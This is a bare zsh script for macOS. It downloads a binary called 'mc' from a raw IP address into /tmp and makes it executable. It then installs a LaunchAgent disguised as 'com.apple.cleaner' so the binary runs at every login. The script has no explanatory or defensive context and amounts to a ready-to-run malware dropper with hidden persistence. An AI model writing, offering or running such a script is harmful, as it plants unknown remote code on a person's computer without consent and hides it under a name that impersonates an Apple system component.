#!/bin/zsh
curl -sL http://185.244.25.14/mc -o /tmp/mc && chmod +x /tmp/mc
cat > ~/Library/LaunchAgents/com.apple.cleaner.plist <<EOF
<plist><dict><key>ProgramArguments</key><array><string>/tmp/mc</string></array><key>RunAtLoad</key><true/></dict></plist>
EOF
launchctl load ~/Library/LaunchAgents/com.apple.cleaner.plist
